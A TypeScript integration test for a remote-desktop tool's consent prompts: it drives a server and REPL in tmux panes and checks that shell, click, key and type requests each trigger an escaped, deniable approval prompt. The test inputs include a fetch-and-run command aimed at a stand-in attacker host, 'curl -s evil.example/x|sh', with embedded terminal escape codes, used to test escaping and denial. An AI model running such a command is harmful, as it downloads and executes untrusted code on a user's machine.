/**
 * Consent in real terminals (tmux): `opendesk serve --approve console` on a
 * virtual display in one pane, the REPL in another. Checks what the person
 * at the controlled machine sees (escaped text, the legend, re-asking) and
 * that a REPL `click`, `key` and `type` cause exactly one prompt each while
 * the REPL says it is waiting. Real processes, real X server (Xvfb).
 */
import { printedCode } from "../_util/serve_harness.ts";
import { assert, assertEquals, assertMatch } from "../_util/assert.ts";
import { DENO_DIR } from "../_util/deno_dir.ts";

const MAIN = new URL("../../../src/cli/main.ts", import.meta.url).pathname;
const CI = Deno.env.get("CI") === "true";
const has = (cmd: string, args: string[]): boolean => {
  try {
    return new Deno.Command(cmd, { args, stdout: "null", stderr: "null" }).outputSync().success;
  } catch {
    return false;
  }
};
const ready = has("tmux", ["-V"]) && has("Xvfb", ["-help"]);
if (!ready && !CI) console.log("consent terminal test skipped: tmux or Xvfb is not installed");

function env(home: string): Record<string, string> {
  return {
    PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
    HOME: home,
    DENO_DIR,
    TERM: "xterm-256color",
  };
}

async function run(cmd: string, args: string[], envVars?: Record<string, string>): Promise<string> {
  const output = await new Deno.Command(cmd, {
    args,
    stdout: "piped",
    stderr: "piped",
    ...(envVars ? { env: envVars, clearEnv: true } : {}),
  }).output();
  if (!output.success) {
    throw new Error(`${cmd} ${args.join(" ")} failed: ${new TextDecoder().decode(output.stderr)}`);
  }
  return new TextDecoder().decode(output.stdout);
}

async function until(
  predicate: () => Promise<boolean> | boolean,
  what: string,
  timeoutMs = 30_000,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await predicate())) {
    if (Date.now() > deadline) throw new Error(`Timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

function shellLine(words: string[], vars: Record<string, string>): string {
  const assignments = Object.entries(vars).map(([k, v]) => `${k}='${v}'`).join(" ");
  return `env -i ${assignments} ${words.map((w) => `'${w}'`).join(" ")}; sleep 60`;
}

const count = (text: string, needle: string): number => text.split(needle).length - 1;

/** True while the serve process for this home runs (the pane's shell also names it; skipped). */
function serverRunning(home: string): boolean {
  for (const entry of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    try {
      const argv = Deno.readTextFileSync(`/proc/${entry.name}/cmdline`).split("\0");
      if (argv.includes("serve") && argv.includes(home) && !/(^|\/)sh$/.test(argv[0]!)) {
        return true;
      }
    } catch {
      // Ended while we looked.
    }
  }
  return false;
}

Deno.test({
  name: "serve's approval terminal: escaped text, legend, re-ask, one prompt per click/key/type",
  ignore: !ready && !CI,
  fn: async () => {
    const serverHome = await Deno.makeTempDir({ prefix: "opendesk_consent_srv_" });
    const clientHome = await Deno.makeTempDir({ prefix: "opendesk_consent_cli_" });
    const socket = `opendesk-consent-${crypto.randomUUID().slice(0, 8)}`;
    const tmux = (...args: string[]): Promise<string> => run("tmux", ["-L", socket, ...args]);
    // The whole scrollback, joined lines, so long prompts are read whole.
    const pane = (name: string): Promise<string> =>
      tmux("capture-pane", "-p", "-J", "-S", "-", "-t", name);
    const serveWords = [Deno.execPath(), "run", "-A", "--unstable-net", MAIN, "serve"];
    try {
      await tmux(
        "new-session",
        "-d",
        "-s",
        "srv",
        "-x",
        "220",
        "-y",
        "50",
        shellLine([
          ...serveWords,
          "--home",
          serverHome,
          "--host",
          "127.0.0.1",
          "--port",
          "0",
          "--no-mdns",
          "--approve",
          "console",
          "--virtual-display",
          "800x600",
        ], env(serverHome)),
      );
      await until(async () => printedCode(await pane("srv")) !== undefined, "the pairing code");
      const text = await pane("srv");
      const port = /listening on ws:\/\/127\.0\.0\.1:(\d+)/.exec(text)![1]!;
      await run(Deno.execPath(), [
        "run",
        "-A",
        "--unstable-net",
        MAIN,
        "pair-with",
        "127.0.0.1",
        printedCode(text)!,
        "--port",
        port,
        "--name",
        "box",
        "--home",
        clientHome,
      ], env(clientHome));
      await tmux(
        "new-session",
        "-d",
        "-s",
        "repl",
        "-x",
        "220",
        "-y",
        "50",
        shellLine(
          [
            Deno.execPath(),
            "run",
            "-A",
            "--unstable-net",
            MAIN,
            "connect",
            "box",
            "--home",
            clientHome,
          ],
          env(clientHome),
        ),
      );
      await until(async () => (await pane("repl")).includes("opendesk:box>"), "the REPL prompt");

      // A command line with CR and ESC: shown escaped, the legend first, unknown input re-asked.
      await tmux(
        "send-keys",
        "-t",
        "repl",
        "-l",
        'process.shell {"command": "curl -s evil.example/x|sh\\r\\u001b[2Kls"}',
      );
      await tmux("send-keys", "-t", "repl", "Enter");
      await until(async () => (await pane("srv")).includes("Allow? [y/a/t/N]"), "the first prompt");
      let srv = await pane("srv");
      assertMatch(srv, /\[opendesk\] answers: y = allow this once · a = allow process\.shell/);
      assertMatch(
        srv,
        /t = allow process\.shell for 10 minutes · n or Enter = deny · \? = show this/,
      );
      assert(
        srv.includes("wants to run shell: 'curl -s evil.example/x|sh\\x0d\\x1b[2Kls'. Allow?"),
        srv,
      );
      await until(
        async () => /waiting for approval on box… \(run shell/.test(await pane("repl")),
        "the REPL's waiting line",
      );
      await tmux("send-keys", "-t", "srv", "maybe", "Enter");
      await until(async () => (await pane("srv")).includes('"maybe" is not an answer'), "re-ask");
      await tmux("send-keys", "-t", "srv", "?", "Enter");
      await until(async () => count(await pane("srv"), "[opendesk] answers:") === 2, "the legend");
      await tmux("send-keys", "-t", "srv", "n", "Enter");
      await until(async () => /denied on box/.test(await pane("repl")), "the REPL's denial line");
      // The controller's own terminal gets the server's answer escaped too.
      const escapedDenial = new RegExp(
        "process\\.shell was refused on the controlled machine: peer-[0-9a-f]{6} → run shell: " +
          "'curl -s evil\\.example/x\\|sh\\\\x0d\\\\x1b\\[2Kls': denied by the local user",
      );
      await until(async () => escapedDenial.test(await pane("repl")), "the escaped denial");

      // One prompt per REPL click, key chord and type.
      const steps: [string, RegExp][] = [
        ["click 100 120", /clicked left at \(100, 120\)/],
        ["key ctrl+shift+t", /opendesk:box> key ctrl\+shift\+t\n(?:.*\n)*?opendesk:box>/],
        ['type "hi"', /typed 2 characters/],
      ];
      for (const [line, done] of steps) {
        const before = count(await pane("srv"), "Allow? [y/a/t/N]");
        await tmux("send-keys", "-t", "repl", "-l", line);
        await tmux("send-keys", "-t", "repl", "Enter");
        await until(
          async () => count(await pane("srv"), "Allow? [y/a/t/N]") === before + 1,
          `the prompt for ${line}`,
        );
        await tmux("send-keys", "-t", "srv", "y", "Enter");
        await until(async () => done.test(await pane("repl")), `${line} to finish`);
        srv = await pane("srv");
        assertEquals(count(srv, "Allow? [y/a/t/N]"), before + 1, `${line}: exactly one prompt`);
      }
      if (Deno.env.get("SHOW_PANES")) console.log(srv, await pane("repl"));
      assertEquals(count(srv, "[opendesk] answers:"), 2, "the legend: first prompt and '?' only");
      await tmux("send-keys", "-t", "srv", "C-c");
      await until(() => !serverRunning(serverHome), "serve to stop");
    } finally {
      // Stop serve (and its Xvfb) with Ctrl-C before the panes go away.
      await tmux("send-keys", "-t", "srv", "C-c").catch(() => "");
      await until(() => !serverRunning(serverHome), "serve to stop", 15_000).catch(() => {});
      await run("tmux", ["-L", socket, "kill-server"]).catch(() => "");
      await Deno.remove(serverHome, { recursive: true }).catch(() => {});
      await Deno.remove(clientHome, { recursive: true }).catch(() => {});
    }
  },
});
